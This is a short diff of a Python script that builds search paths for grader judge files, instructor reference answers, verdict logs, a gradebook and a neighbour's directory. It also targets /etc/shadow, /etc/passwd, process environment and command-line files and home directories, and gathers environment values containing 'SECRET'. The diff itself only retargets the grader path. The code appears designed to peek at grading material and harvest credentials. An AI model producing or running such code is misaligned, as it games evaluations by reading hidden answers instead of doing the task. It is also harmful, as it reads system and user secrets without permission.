@@ -3,7 +3,7 @@ import os
 
 here = os.path.abspath(__file__)
 above = [here.rsplit("/", i)[0] for i in range(1, 9)]
-names = ("../neighbour/**", "**/run.json", "**/verdicts.jsonl", "grader/checks/*", "instructor/reference/**", "**/gradebook.db")
+names = ("../neighbour/**", "**/run.json", "**/verdicts.jsonl", "grader/judge/*/*", "instructor/reference/**", "**/gradebook.db")
 places = [f"{folder}/{name}" for folder in above if folder.count("/") > 1 for name in names]
 places += ["/root/**", "/home/**", "/etc/passwd", "/etc/shadow", "/proc/[0-9]*/environ", "/proc/[0-9]*/cmdline", "/tmp/**"]
 found = {name: value for name, value in os.environ.items() if "SECRET" in value}
